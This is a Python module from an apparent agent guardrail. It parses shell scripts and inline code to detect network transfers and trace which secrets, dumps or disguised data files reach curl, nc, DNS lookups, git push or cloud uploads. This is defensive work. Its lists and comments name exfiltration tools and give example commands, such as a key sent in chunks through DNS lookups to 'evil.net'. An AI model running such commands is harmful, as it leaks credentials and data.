"""Network transfers inside shell commands and code: what leaves, and for where.

A parsed script (`guardrail.shell`) is walked once. Commands that *read* something
(``tar cz ~/.gnupg``, ``env``, ``mysqldump``, ``git bundle --all``) become sources;
commands that *send* (curl, wget, scp, rsync, sftp, ssh, nc, ftp, git push, rclone,
aws s3, gsutil, azcopy, mail, gh gist/issue...) become transfers. Data reaches a sender
through a pipe, a file argument (``-F f=@x``, ``-T x``, ``< x``), a nested ``$(...)``, a
here-string, or a file an earlier command of the same answer wrote. A name looked up in
DNS (``dig``, ``nslookup``, ``host``...) is a send to whoever runs that zone: data spliced
into its labels leaves. Inline interpreter code (``python3 -c``, ``node -e``) is read, decoded
where it decodes itself, for the shell commands and HTTP calls it makes.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Iterator
from dataclasses import replace

from guardrail.cloud_shares import cloud_share, is_storage_cli, opened_objects
from guardrail.code_secrets import code_destinations, secret_flows
from guardrail.decoding import decode_layers
from guardrail.destinations import Destination, extract, normalise_host
from guardrail.powershell import parse_powershell
from guardrail.secret_commands import prints_secret
from guardrail.sensitive import Kind, classify_path
from guardrail.shell import Command, Script, parse_script
from guardrail.transfer_types import DISGUISED_LABEL, Source, Transfer, TransferState

__all__ = [
    "Source",
    "Transfer",
    "TransferState",
    "added_lines",
    "capturing_code",
    "code_secret_sends",
    "code_transfers",
    "embedded_transfers",
    "powershell_transfers",
    "script_lines",
    "transfers",
]


_ENV_DUMP = frozenset({"env", "printenv", "set", "export", "declare", "compgen"})
_DUMPERS = frozenset(
    {
        "mysqldump",
        "pg_dump",
        "pg_dumpall",
        "mongodump",
        "mongoexport",
        "redis-cli",
        "sqlite3",
        "bq",
        "psql",
        "mysql",
    }
)
_SELECT_ALL = re.compile(
    # whole rows, or columns and row functions of them (``row_to_json(a)``, ``t.*``)
    r"(?i)\bselect\s+(?:\*|[\w, ().*]+?)\s+from\s+([\w.\"`]+)|\.dump\b|copy\s+\w+\s+to\b"
)
_SECRET_VAR = re.compile(
    r"\$\{?[A-Z0-9_]*(?:SECRET|TOKEN|PASS|PASSWORD|API_?KEY|PRIVATE|CREDENTIALS?)[A-Z0-9_]*\}?"
)
_HTTP = frozenset({"curl", "wget", "http", "https", "xh", "httpie", "curlie", "aria2c"})
_COPY = frozenset({"scp", "rsync", "sftp", "ftp", "lftp", "smbclient", "tftp"})
_RAW = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl"})
_MAIL = frozenset({"mail", "mailx", "mutt", "sendmail", "msmtp", "swaks"})
_RECIPIENT_OPTS = frozenset(
    {"--to", "--rcpt", "--recipient", "--recipients", "--mail-to", "--email"}
)
_ATTACH_OPTS = frozenset({"--attach", "--attachment", "-a", "--file", "--files"})
_DNS = frozenset(
    {"nslookup", "dig", "host", "drill", "kdig", "delv", "resolvectl", "getent", "ping", "ping6"}
    | {"traceroute", "tracepath", "mtr", "dnsq", "dnsget", "adig", "q", "doggo", "dog"}
)
# Wrappers `guardrail.shell` does not strip: (options that take a value)
_NET_WRAPPERS: dict[str, frozenset[str]] = {
    "sshpass": frozenset({"-p", "-f", "-d", "-P"}),
    "proxychains": frozenset({"-f"}),
    "proxychains4": frozenset({"-f"}),
    "torsocks": frozenset({"-u", "-p", "-a", "-P"}),
    "torify": frozenset(),
    "tsocks": frozenset(),
    "firejail": frozenset(),
    "pv": frozenset({"-L", "-s", "-N"}),
}
_INTERPRETERS = re.compile(r"^(?:python[\d.]*|pypy\d?|node|nodejs|deno|bun|perl|ruby|php)$")
_CODE_FLAGS = frozenset({"-c", "-e", "-r", "--eval", "-E", "--command"})
_STRING_LITERAL = re.compile(r"(?s)'((?:[^'\\]|\\.){6,})'|\"((?:[^\"\\]|\\.){6,})\"")
_ARGV_LIST = re.compile(r"\[\s*((?:['\"][^'\"]*['\"]\s*,\s*){2,}['\"][^'\"]*['\"])\s*,?\s*\]")
_SENDER_START = re.compile(
    r"^\s*(?:sudo\s+)?(?:curl|wget|scp|rsync|sftp|ftp|lftp|nc|ncat|socat|ssh|sshpass|mail|sendmail|"
    r"aws|gsutil|rclone|azcopy|gh|git|nslookup|dig|host|drill|ping|tar|cat|env|printenv|bash|sh)\b"
)
_CURL_DATA = frozenset(
    {
        "-d",
        "--data",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--json",
        "-F",
        "--form",
        "--form-string",
        "-T",
        "--upload-file",
        "--post-file",
        "--post-data",
        "--body-file",
        "--body-data",
    }
)
_CURL_ARG = frozenset(
    {
        "-H",
        "--header",
        "-X",
        "--request",
        "-o",
        "--output",
        "-u",
        "--user",
        "-A",
        "--user-agent",
        "-e",
        "--referer",
        "-b",
        "--cookie",
        "-c",
        "--cookie-jar",
        "-m",
        "--max-time",
        "--connect-timeout",
        "-w",
        "--write-out",
        "-x",
        "--proxy",
        "--retry",
        "-O",
        "--output-document",
        "-K",
        "--config",
        "--url",
    }
    | _CURL_DATA
)
_RCLONE_SENDS = frozenset({"copy", "sync", "move", "copyto", "moveto", "bisync"})
_HOST_PATH = re.compile(r"^(?:[\w.+-]+@)?([A-Za-z0-9][\w.-]*):(?!//)")
_CODE_SEND = re.compile(
    r"requests\.(?:post|put|patch)|httpx\.(?:post|put)|urlopen|urllib\.request|fetch\s*\(|axios\.(?:post|put)|"
    r"http\.client|smtplib|socket\.(?:socket|create_connection)|\.connect\(|upload_file|put_object|paramiko|ftplib|"
    r"XMLHttpRequest|navigator\.sendBeacon|WebSocket\(|\bhttps?\.request\(|\)\.request\(\s*\{"
)
_WHOLE_ENV = re.compile(
    r"JSON\.stringify\(\s*process\.env\s*\)|\bprocess\.env\s*[,)}]|Object\.\w+\(\s*process\.env\s*\)|"
    r"\bos\.environ\s*[,)}]|os\.environ\.(?:copy|items)\(\)|System\.getenv\(\s*\)"
)
_CODE_ENV = re.compile(r"os\.environ|process\.env|getenv|System\.getenv")
# One environment lookup by name: ``os.environ['X']``, ``os.getenv("X")``, ``process.env.X``.
_ENV_LOOKUP = re.compile(
    r"""(?:os\.environ(?:\.get)?\s*[\[(]\s*|(?:os\.)?getenv\(\s*|process\.env\[\s*)['"](\w+)['"]\s*[\])]?|"""
    r"process\.env\.(\w+)"
)
# Variable names that hold an address rather than a secret.
_ADDRESS_NAME = re.compile(r"(?i)URL|URI|WEBHOOK|HOOK|ENDPOINT|HOST|SERVER|COLLECTOR|SINK|DSN")
# A send call's own statement: what it carries is written there.
_STATEMENT = re.compile(r"[^;\n]*")
# In-scope names of what a user types to log in or pay: code that ships them captures them.
_CAPTURED = re.compile(
    r"\b(?:password|passwd|passphrase|pwd|secret|otp|cvv|cvc|card_?number|cardNumber|pin|"
    r"api_?key|apiKey|access_?token|accessToken)\b"
)
# Endpoints whose purpose is to receive credentials: a login form posting to its own auth.
_AUTH_PATH = re.compile(
    r"(?i)https?://[^\s'\"]*/(?:[\w/.-]*)(?:login|auth|signin|sign-in|token|session|oauth)"
)
_CODE_PATH = re.compile(r"""["']((?:~|/|\.{1,2}/)?[\w.~/-]*(?:/|\.)[\w.-]+)["']""")
_SCRIPT_PREFIX = re.compile(
    r"^\s*(?:-\s*)?(?:run|script|command|cmd|entrypoint|exec|RUN|CMD)\s*[:=]?\s*[|>]?\s*", re.M
)
_SCRIPT_PATH = re.compile(
    r"(?i)(?:\.git/hooks/|\.github/workflows/|\.gitlab-ci|jenkinsfile|makefile|dockerfile|crontab|cron\.|"
    r"\.(?:sh|bash|zsh|ya?ml|service|timer|rc|profile|ps1|bat|cmd)$|(?:^|/)\.(?:bashrc|zshrc|profile|bash_profile)$|"
    r"/(?:bin|hooks|scripts?)/)"
)


def script_lines(path: str, text: str) -> str | None:
    """The shell hidden in a file an agent writes (hook, CI step, cron line), or None."""
    looks_script = bool(_SCRIPT_PATH.search(path)) or text.startswith("#!")
    if not looks_script and not re.search(r"\b(?:curl|wget|scp|rsync|nc|ssh|sftp)\b", text):
        return None
    return _SCRIPT_PREFIX.sub("", text)


def _named_options(args: tuple[str, ...]) -> Iterator[tuple[str, str]]:
    """``--opt value`` and ``--opt=value`` pairs of any program's argv."""
    for i, a in enumerate(args):
        if a.startswith("--") and "=" in a:
            k, v = a.split("=", 1)
            yield k, v
        elif a.startswith("-") and i + 1 < len(args) and not args[i + 1].startswith("-"):
            yield a, args[i + 1]


def _options(args: tuple[str, ...]) -> Iterator[tuple[str, str | None]]:
    """(option, value) pairs and positional args (as ``("", arg)``) of a curl-like argv."""
    i = 0
    while i < len(args):
        a = args[i]
        if a in _CURL_ARG and i + 1 < len(args):
            yield a, args[i + 1]
            i += 2
            continue
        last = "-" + a[-1]
        if re.fullmatch(r"-[a-zA-Z]{2,}", a) and last in _CURL_ARG and i + 1 < len(args):
            yield last, args[i + 1]  # bundled flags: -sT file, -sd data
            i += 2
            continue
        if a.startswith("--") and "=" in a:
            k, v = a.split("=", 1)
            yield k, v
        elif a.startswith("-") and len(a) > 2 and a[:2] in _CURL_ARG and not a.startswith("--"):
            yield a[:2], a[2:]
        elif a.startswith("-"):
            yield a, None
        else:
            yield "", a
        i += 1


def _reads(cmd: Command, state: TransferState) -> list[Source]:
    """What a command reads that matters if it leaves."""
    out: list[Source] = []
    argv0 = cmd.argv[0].rsplit("/", 1)[-1] if cmd.argv else ""
    name = cmd.name or argv0
    if (name in _ENV_DUMP and not [a for a in cmd.args if not a.startswith("-")]) or (
        argv0 in ("env", "printenv") and not cmd.name
    ):
        out.append(Source(Kind.CREDENTIAL, "environment variables", 0.85, name))
    joined = " ".join(cmd.argv)
    if name in _DUMPERS:
        m = _SELECT_ALL.search(joined)
        if name in ("mysqldump", "pg_dump", "pg_dumpall", "mongodump", "mongoexport") or m:
            table = m.group(1) if m and m.group(1) else joined
            hit = classify_path("/" + table.strip('"`').lower())
            weight = 0.75 if hit and hit[0] is Kind.PERSONAL else 0.6
            out.append(Source(Kind.BULK, "database dump", weight, table))
    if name == "git" and cmd.args[:1] in (("bundle",), ("archive",)):
        out.append(Source(Kind.CONFIDENTIAL, "whole repository", 0.6, "git " + cmd.args[0]))
    if name == "history":
        out.append(Source(Kind.CREDENTIAL, "shell history", 0.6, "history"))
    printed = prints_secret(name, cmd.args)
    if printed is not None:
        out.append(Source(Kind.CREDENTIAL, "secret-store output", 0.9, printed))
    for arg in cmd.args:
        if arg in state.tainted:
            out.append(state.tainted[arg])
            continue
        if "$" in arg:  # a loop variable spliced into a name: ``$chunk.r.example.net``
            out.extend(
                src
                for var, src in state.tainted.items()
                if var.startswith("$") and re.search(re.escape(var) + r"(?!\w)", arg)
            )
        inside = _tainted_under(arg, state)
        if inside is not None:  # ``aws s3 cp dir/ ... --recursive`` carries what was put in dir
            out.append(inside)
        for piece in re.split(r"[=@,]", arg):
            if piece.startswith(("http", "ftp")):
                continue
            if piece in state.tainted and piece != arg:  # ``-F file=@/tmp/staged.zip``
                out.append(state.tainted[piece])
                continue
            src = state.classify(piece)
            if src is not None:
                out.append(src)
        var = _SECRET_VAR.search(arg)
        if var:
            out.append(Source(Kind.CREDENTIAL, "secret variable", 0.75, var.group(0)))
        if arg.startswith(("s3://", "gs://")):
            out.append(Source(Kind.CONFIDENTIAL, "stored objects", 0.45, arg))
    for r in cmd.redirects:
        if r.op.startswith("<") and r.op != "<<<" and r.target in state.tainted:
            out.append(state.tainted[r.target])
        elif r.op.startswith("<") and r.op != "<<<":
            src = state.classify(r.target)
            if src is not None:
                out.append(src)
    for nested in cmd.nested:
        for inner in nested.commands():
            out.extend(_reads(inner, state))
    if not cmd.nested:
        out.extend(_carried_substitutions(cmd, state))
    for text in (cmd.heredoc, *(r.target for r in cmd.redirects if r.op == "<<<")):
        if text:
            for word in text.split():
                hit = classify_path(word)
                if hit:
                    out.append(Source(hit[0], hit[1], hit[2], word))
    return out


# Files that hold data, and the types data is dressed up as to pass unseen: a customer
# export copied to ``IMG_2291.jpg`` or ``inter-var-ext.woff2`` is a disguise, not an asset.
_DATA_FILE = re.compile(
    r"(?i)\.(?:csv|tsv|xlsx?|json|jsonl|sql|parquet|sqlite3?|db|dump|bak|txt|pdf|docx?|"
    r"env|pem|key|ovpn|zip|tar|tgz|gz|7z)$"
)
_COVER_FILE = re.compile(
    r"(?i)\.(?:jpe?g|png|gif|bmp|webp|heic|ico|svg|mp3|wav|ogg|flac|mp4|mov|avi|mkv|"
    r"woff2?|ttf|otf|eot)$"
)


def _disguised(src: Source, target: str) -> Source | None:
    """A data file written out under a media or font name: the same data, now hidden."""
    if not _COVER_FILE.search(target) or not _DATA_FILE.search(src.what.strip("'\"")):
        return None
    label = f"{DISGUISED_LABEL} ({src.label})"
    return Source(src.kind, label, max(src.weight, 0.8), src.what)


def _tainted_under(arg: str, state: TransferState) -> Source | None:
    """The strongest thing an earlier command of the answer put inside directory ``arg``:
    a key copied into a photo folder leaves with the folder."""
    if not state.tainted or arg.startswith("-"):
        return None
    prefix = arg.rstrip("/") + "/"
    if len(prefix) < 3:
        return None
    inside = [s for path, s in state.tainted.items() if path.startswith(prefix)]
    return max(inside, key=lambda s: s.weight) if inside else None


# ``$(...)`` or backticks still written out in an argument: a variable (a loop's ``$c``) stood
# for a command's output the parser could not compute.
_RAW_SUBSTITUTION = re.compile(r"\$\(([^()]{1,400})\)|`([^`]{1,400})`")


def _carried_substitutions(cmd: Command, state: TransferState) -> list[Source]:
    """What the commands read whose output a variable carries into this command's arguments:
    ``for c in $(xxd key); do dig $c.evil.net; done`` sends the key, chunk by chunk. Text
    the command itself spells out (``'$(cat x)'`` in single quotes) runs nothing."""
    joined = " ".join(cmd.argv)
    if "$(" not in joined and "`" not in joined:
        return []
    out: list[Source] = []
    for m in _RAW_SUBSTITUTION.finditer(joined):
        if m.group(0) in cmd.text:
            continue
        for inner in parse_script(m.group(1) or m.group(2)).commands():
            out.extend(_reads(inner, state))
    return out


def _outputs(cmd: Command) -> list[str]:
    """Files a command writes: redirections, ``-o``, ``INTO OUTFILE``, archives, bundles."""
    files = list(cmd.writes)
    args = cmd.args
    joined = " ".join(cmd.argv)
    m = re.search(r"(?i)into\s+(?:out|dump)file\s+['\"]?([^'\"\s]+)", joined)
    if m:
        files.append(m.group(1))
    for i, a in enumerate(args):
        if a in (
            "-o",
            "--output",
            "-f",
            "--file",
            "-cf",
            "-czf",
            "-cjf",
            "-cJf",
            "czf",
            "cf",
            "-zcf",
        ) and i + 1 < len(args):
            files.append(args[i + 1])
    if cmd.name == "git" and args[:2] == ("bundle", "create") and len(args) > 2:
        files.append(args[2])
    if cmd.name in ("zip", "7z", "cp", "mv", "rar") and args:
        non_opt = [a for a in args if not a.startswith("-")]
        if non_opt:
            files.append(non_opt[0] if cmd.name in ("zip", "7z", "rar") else non_opt[-1])
    return files


def transfers(
    script: Script, state: TransferState, stdin: tuple[Source, ...] = ()
) -> list[Transfer]:
    """Every network send in ``script`` with the data that reaches it; ``stdin`` is what
    the script is fed (the rows ``COPY ... TO PROGRAM`` pipes into it)."""
    found: list[Transfer] = []
    outer, state.cwd = state.cwd, ""  # each script starts where the agent's shell does
    try:
        _walk(script, state, stdin, found)
    finally:
        state.cwd = outer
    return found


def _walk(
    script: Script, state: TransferState, stdin: tuple[Source, ...], found: list[Transfer]
) -> None:
    for pipeline in script.all_pipelines():
        upstream: list[Source] = list(stdin)
        for cmd in pipeline.commands:
            cmd = _unwrap(cmd)
            reads = _reads(cmd, state)
            sent = _send(cmd, upstream, reads, state)
            if sent is not None:
                found.append(sent)
            found.extend(_inline_code(cmd, state))
            if cmd.name == "cd" and cmd.args:
                target = cmd.args[0].rstrip("/")
                state.cwd = (
                    target
                    if target.startswith(("/", "~"))
                    else ("/".join(p for p in (state.cwd, target) if p))
                )
            if (
                cmd.name == "git"
                and cmd.args[:2] in (("remote", "add"), ("remote", "set-url"))
                and len(cmd.args) >= 4
            ):
                state.remotes[cmd.args[2]] = cmd.args[3]
            if cmd.name == "git" and cmd.args[:1] in (("commit",), ("tag",)):
                state.commit_notes.extend(_commit_messages(cmd.args))
            if cmd.name == "git" and cmd.args[:1] == ("add",) and _STAGE_ALL & set(cmd.args[1:]):
                state.stages_all = True
            outputs = _outputs(cmd)
            if outputs:  # remembered by what went in, for rules that name it (/cases/...)
                inputs = [a for a in cmd.args if not a.startswith("-") and a not in outputs]
                made = " ".join(
                    a if a.startswith(("/", "~")) or not state.cwd else f"{state.cwd}/{a}"
                    for a in inputs
                )
                for f in outputs:
                    state.origins[f] = made
            carried = [*upstream, *reads]
            if carried:
                best = max(carried, key=lambda s: s.weight)
                for f in _outputs(cmd):
                    state.tainted[f] = _disguised(best, f) or best
                if cmd.name == "read" and upstream:
                    # ``... | while read row; do curl -d "$row" ...``: each row rides in $row
                    for var in (a for a in cmd.args if not a.startswith("-")):
                        state.tainted["$" + var] = state.tainted["${" + var + "}"] = best
            elif data := [a for a in cmd.args if _DATA_FILE.search(a) and not a.startswith("-")]:
                # an unnamed data file written out as a photo or font is hidden all the same
                plain = Source(Kind.BULK, "data file", 0.45, data[0])
                for f in _outputs(cmd):
                    hidden = _disguised(plain, f)
                    if hidden is not None:
                        state.tainted[f] = hidden
            upstream = carried


def _send(
    cmd: Command, upstream: list[Source], reads: list[Source], state: TransferState
) -> Transfer | None:
    name = cmd.name
    args = cmd.args
    dests: list[Destination] = []
    data: list[Source] = []
    uploads = False
    if name in _HTTP:
        posting = False
        for opt, val in _options(args):
            if opt in _CURL_DATA and val is not None:
                posting = True
                uploads = (
                    uploads
                    or "@" in val
                    or opt in ("-T", "--upload-file", "--post-file", "--body-file")
                )
                # ``-d @-``, ``-F f=@-`` (a file from stdin), ``-F f=<-`` (stdin as the value)
                if val in ("@-", "-", "<-") or val.endswith(("=@-", "=<-")):
                    data.extend(upstream)
            elif opt in ("-X", "--request") and val and val.upper() in ("POST", "PUT", "PATCH"):
                posting = True
            elif opt in ("", "--url") and val:
                dests.extend(d for d in extract(val) if d.kind in ("host", "ip", "email"))
        if not posting and not upstream:
            # a GET leaks only what is spliced into its URL or headers: $(...), secret variables
            data.extend(s for n in cmd.nested for c in n.commands() for s in _reads(c, state))
            for opt, val in _options(args):
                spliced = opt in ("", "--url", "-H", "--header")
                var = _SECRET_VAR.search(val or "") if spliced else None
                if var:
                    data.append(Source(Kind.CREDENTIAL, "secret variable", 0.75, var.group(0)))
            if not data:
                return None
        else:
            written = set(_outputs(cmd))
            data.extend(s for s in reads if s.what not in written)
    elif name in _COPY:
        for a in args:
            m = _HOST_PATH.match(a)
            if m and not a.startswith("-"):
                dests.append(_host(m.group(1)))
            elif (
                "@" in a and not a.startswith("-") and name in ("sftp", "ftp", "lftp", "smbclient")
            ):
                dests.append(_host(a))
            elif a.startswith(("rsync://", "ftp://", "sftp://", "smb://", "//")):
                dests.append(_host(a.lstrip("/")))
        if name in ("sftp", "ftp", "lftp", "tftp") and not dests:
            dests.extend(_host(a) for a in args if not a.startswith("-") and "." in a)
        data.extend(reads)
        data.extend(upstream)
        uploads = True
    elif name == "ssh":
        host = next((a for a in args if not a.startswith("-") and ("@" in a or "." in a)), None)
        if host is None or not (upstream or any(r.op.startswith("<") for r in cmd.redirects)):
            return None
        dests.append(_host(host))
        data.extend(upstream)
        data.extend(s for s in reads if s.what in {r.target for r in cmd.redirects})
    elif name in _RAW:
        hosts = [
            a for a in args if not a.startswith("-") and not a.isdigit() and ("." in a or ":" in a)
        ]
        if not hosts:
            return None
        dests.append(
            _host(hosts[0].split(":", 1)[-1] if hosts[0].lower().startswith("tcp") else hosts[0])
        )
        data.extend(upstream)
        data.extend(reads)
    elif name in _MAIL:
        dests.extend(d for a in args for d in extract(a) if d.kind == "email")
        data.extend(upstream)
        data.extend(reads)
    elif name == "git" and args[:1] == ("push",):
        targets = [a for a in args[1:] if not a.startswith("-")]
        remote = targets[0] if targets else "origin"
        listed = None if remote in state.remotes else state.remote_url(remote)
        url = state.remotes.get(remote, remote)
        scp_like = _HOST_PATH.match(url)
        pushed = extract(url) or ([_host(scp_like.group(1))] if scp_like else [])
        if listed is not None:  # judged by whose repository the listing shows it is
            pushed = [Destination("remote", remote, listed)]
        # a bare remote is judged by the repository the shell is in (``cd drivers && ...``)
        dests.extend(pushed or [Destination("remote", remote, state.cwd or remote)])
        data.extend(state.repository(_option(args, ("-C",)) or ""))
    elif name in _DNS:
        return _dns(cmd, reads)
    elif name in ("huggingface-cli", "hf") and args[:1] == ("upload",):
        return _hub_upload(cmd, reads, state)
    elif name == "gh":
        return _gh(cmd, reads, state)
    elif name in _PUBLISHERS:
        return _publish(cmd, reads, state)
    elif name == "rclone" and args[:1] == ("link",) and len(args) >= 2:
        # ``rclone link remote:path`` makes a link anyone can open
        target = next((a for a in args[1:] if not a.startswith("-")), "")
        data = [state.tainted[target]] if target in state.tainted else reads
        dest = Destination("public", "rclone link")
        return Transfer(name, (dest,), tuple(data), cmd.text, True, public=True)
    elif name in ("rclone",) and len(args) >= 3 and args[0] in _RCLONE_SENDS:
        positional = [a for a in args[1:] if not a.startswith("-")]
        # ``--transfers 16``: an option's value is no path; the target is a remote path
        remotes = [a for a in positional[1:] if re.match(r"^[\w.-]+:", a)]
        target = remotes[-1] if remotes else (positional[-1] if len(positional) >= 2 else "")
        remote = target.split(":", 1)[0] if ":" in target else ""
        if remote:
            dests.append(Destination("storage", target.lower(), target))
            data.extend(s for s in reads if s.what != target)
            uploads = True
    elif name in ("aws", "gsutil", "gcloud", "azcopy", "s3cmd", "mc", "az"):
        opened = opened_objects(cmd, state)
        if opened is not None:
            return opened
        positional = [a for a in args if not a.startswith("-")]
        verbs = {"cp", "sync", "mv", "rsync", "copy", "put", "upload", "put-object"}
        if not verbs & set(positional):
            return None
        targets = [a for a in positional if re.match(r"(?i)^(?:s3|gs|az|r2|b2|https?)://", a)]
        target = targets[-1] if targets else (positional[-1] if positional else "")
        dests.extend(d for d in extract(target) if d.kind in ("bucket", "host"))
        for flag in ("--account-name", "--container-name", "--destination", "-d"):
            if flag in args and args.index(flag) + 1 < len(args):
                value = args[args.index(flag) + 1]
                found = extract(value)
                dests.extend(found or [Destination("bucket", value.lower(), value)])
                break
        if "--bucket" in args:
            bucket = (
                args[args.index("--bucket") + 1] if args.index("--bucket") + 1 < len(args) else ""
            )
            dests.append(Destination("bucket", bucket.lower(), bucket))
        for flag in ("--file", "-f", "--source", "-s"):
            if flag in args and args.index(flag) + 1 < len(args):
                src = state.classify(args[args.index(flag) + 1])
                if src is not None:
                    data.append(src)
        data.extend(s for s in reads if s.what != target)
        data.extend(upstream)
        uploads = True
    elif is_storage_cli(name):
        return cloud_share(cmd, reads, state)
    elif "@" not in cmd.text:
        return None
    if not dests and "@" in cmd.text:
        # a site's own mail script (``python3 mail.py --to x@y --attach /tmp/f.zip``): the
        # recipient option names where the files and the piped text go
        for opt, val in _named_options(args):
            if opt in _RECIPIENT_OPTS:
                dests.extend(d for d in extract(val) if d.kind == "email")
        if dests:
            data.extend(upstream)
            data.extend(reads)
            uploads = any(opt in _ATTACH_OPTS for opt, _ in _named_options(args))
    if not dests:
        return None
    public = bool(
        re.search(r"allUsers|allAuthenticatedUsers|public-read|--acl[= ]public", " ".join(cmd.argv))
    )
    text = cmd.text
    if name == "git" and state.commit_notes:
        # a push publishes the commits before it: their messages travel with the code
        text = "\n".join([cmd.text, *state.commit_notes])
    return Transfer(name, tuple(dests), tuple(data), text, uploads, public)


_STAGE_ALL = frozenset({"-A", "--all", ".", "-f", "--force", "*", ":/"})


def _commit_messages(args: tuple[str, ...]) -> list[str]:
    """The messages a ``git commit``/``git tag`` writes (``-m TEXT``, ``-am TEXT``,
    ``--message=TEXT``)."""
    out: list[str] = []
    for i, a in enumerate(args):
        if a.startswith("--message="):
            out.append(a.split("=", 1)[1])
        elif (
            a in ("--message",)
            or (a.startswith("-") and not a.startswith("--") and a.endswith("m"))
        ) and i + 1 < len(args):
            out.append(args[i + 1])
    return out


def _host(raw: str) -> Destination:
    host = normalise_host(raw)
    return Destination("host", host, raw)


def _unwrap(cmd: Command) -> Command:
    """``sshpass -p x rsync ...`` → the ``rsync`` command (``proxychains``, ``torsocks``...)."""
    for _ in range(3):
        with_arg = _NET_WRAPPERS.get(cmd.name)
        if with_arg is None:
            return cmd
        i = cmd.program_index + 1
        while i < len(cmd.argv) and cmd.argv[i].startswith("-"):
            i += 2 if cmd.argv[i] in with_arg else 1
        if i >= len(cmd.argv):
            return cmd
        cmd = replace(cmd, program_index=i)
    return cmd


_LABEL_DATA = re.compile(r"(?i)^(?=[a-z0-9_-]*\d)(?=[a-z0-9_-]*[a-z])[a-z0-9_-]{12,63}$")


def _dns(cmd: Command, reads: list[Source]) -> Transfer | None:
    """A name lookup: whoever runs the zone sees every label, so data in them is sent."""
    names = [
        a.lstrip("@")
        for a in cmd.args
        if not a.startswith(("-", "+")) and "." in a and not re.fullmatch(r"[\d.]+", a)
    ]
    spliced = "$" in " ".join(cmd.args) or bool(cmd.nested)
    dests: list[Destination] = []
    carried: list[str] = []
    for name in names:
        # the zone is what follows the spliced part: $(...).x.evil.net, $c.x.evil.net
        zone = re.sub(r"^.*[)}`]|\$\w+", "", name).strip(".")
        # labels a resolver passes but a host name may not hold (ghp_...) carry data too
        zone = ".".join(_host_suffix(zone.split(".")))
        found = [d for d in extract(zone) if d.kind == "host"]
        if not found:
            continue
        dests.extend(found)
        labels = name.split(".")
        if spliced or any(_LABEL_DATA.match(label) for label in labels[:-2]):
            carried.append(name)
            carried.extend(_label_payloads(labels[:-2]))
    if not dests or not carried:
        return None
    return Transfer(cmd.name, tuple(dests), tuple(reads), " ".join(carried), addressed=True)


def _host_suffix(labels: list[str]) -> list[str]:
    """The trailing labels that can form a host name."""
    i = len(labels)
    while i > 0 and re.fullmatch(r"[A-Za-z0-9-]+", labels[i - 1]):
        i -= 1
    return labels[i:]


def _hub_upload(cmd: Command, reads: list[Source], state: TransferState) -> Transfer | None:
    """``huggingface-cli upload REPO PATH``: a model hub repository, public unless ``--private``."""
    positional = [a for a in cmd.args[1:] if not a.startswith("-")]
    if len(positional) < 2:
        return None
    repo = positional[0].lower()
    src = state.classify(positional[1].rstrip("/") + "/")
    data = [*reads, *([src] if src else [])]
    public = "--private" not in cmd.args
    return Transfer(
        cmd.name, (Destination("repo", repo, positional[0]),), tuple(data), cmd.text, True, public
    )


def environment_dumps(code: str) -> list[Transfer]:
    """Sends in code an agent writes into a file that carry the whole environment
    (``JSON.stringify(process.env)``, ``dict(os.environ)``): every CI secret at once."""
    if not _WHOLE_ENV.search(code):
        return []
    whole = Source(Kind.CREDENTIAL, "the whole environment", 0.85, "environ")
    return [replace(t, sources=(whole,)) for t in code_transfers(code)]


def capturing_code(code: str) -> list[Transfer]:
    """Sends in code an agent writes that ship what users type to log in or pay
    (``sendBeacon(url, {email, password})``) somewhere other than an auth endpoint."""
    if not _CAPTURED.search(code):
        return []
    return [
        replace(t, sources=captured)
        for t in code_transfers(code)
        if (captured := tuple(s for s in t.sources if s.label == "passwords captured by the code"))
    ]


def code_secret_sends(code: str) -> list[Transfer]:
    """Sends in code that carry a secret it reads (the whole environment, a credential
    file, a secret-named variable) into a network call, to the hosts its literals name
    (`guardrail.code_secrets`)."""
    flows = secret_flows(code)
    dests = code_destinations(code) if flows else ()
    if not dests:
        return []
    sources = tuple(Source(f.kind, f.label, f.weight, f.what) for f in flows)
    return [Transfer("code", dests, sources, code, uploads_file=True)]


_DIFF_TARGET = re.compile(r"(?m)^\+\+\+ (?:b/)?(\S+)")


def added_lines(diff: str, path: str = "") -> tuple[str, str]:
    """The file a unified diff patches and the lines it adds, or the text itself when it is
    not a diff."""
    target = _DIFF_TARGET.search(diff)
    if target is None:
        return path, diff
    added = [ln[1:] for ln in diff.splitlines() if ln.startswith("+") and not ln.startswith("+++")]
    return target.group(1), "\n".join(added)


def _label_payloads(labels: list[str]) -> list[str]:
    """DNS labels decoded as the encodings a case-insensitive name allows: hex, base32."""
    out: list[str] = []
    # in written order: a value split over labels is matched across the decoded pieces
    for text in dict.fromkeys([*labels, "".join(labels)]):
        if len(text) < 8:
            continue
        for decode in (_unhex, _unbase32):
            plain = decode(text)
            if plain is not None and len(plain) >= 4:
                out.append(plain)
    return out


def _unhex(text: str) -> str | None:
    if len(text) % 2 or not re.fullmatch(r"[0-9a-fA-F]+", text):
        return None
    return _printable_text(binascii.unhexlify(text))


def _unbase32(text: str) -> str | None:
    if not re.fullmatch(r"[A-Za-z2-7]+", text):
        return None
    try:
        data = base64.b32decode(text.upper() + "=" * (-len(text) % 8))
    except (binascii.Error, ValueError):
        return None
    return _printable_text(data)


def _printable_text(data: bytes) -> str | None:
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError:
        return None
    return text if text.isprintable() else None


def _option(args: tuple[str, ...], names: tuple[str, ...]) -> str | None:
    """The value of an option given as ``--name value`` or ``--name=value``."""
    for i, a in enumerate(args):
        if a in names and i + 1 < len(args):
            return args[i + 1]
        key, eq, value = a.partition("=")
        if eq and key in names:
            return value
    return None


def _gh(cmd: Command, reads: list[Source], state: TransferState) -> Transfer | None:
    """GitHub CLI: gists are readable by anyone with the link; outside issues by anyone; a
    repository created from a local tree (``--source``, ``--push``) receives that tree."""
    args = cmd.args
    if args[:2] == ("repo", "create") and ("--push" in args or _option(args, ("--source", "-s"))):
        names = [a for a in args[2:] if not a.startswith("-")]
        source = _option(args, ("--source", "-s")) or "."
        names = [n for n in names if n != source]
        created = names[0] if names else "new repository"
        dest = Destination("repo", created.lower(), created)
        data = [
            *(r for r in reads if r.what not in (created, source)),
            *state.repository("" if source == "." else source),
        ]
        return Transfer("gh", (dest,), tuple(data), cmd.text, True, public="--public" in args)
    if args[:2] == ("gist", "create"):
        dest = Destination("public", "gh gist create")
        return Transfer("gh", (dest,), tuple(reads), cmd.text, uploads_file=True, public=True)
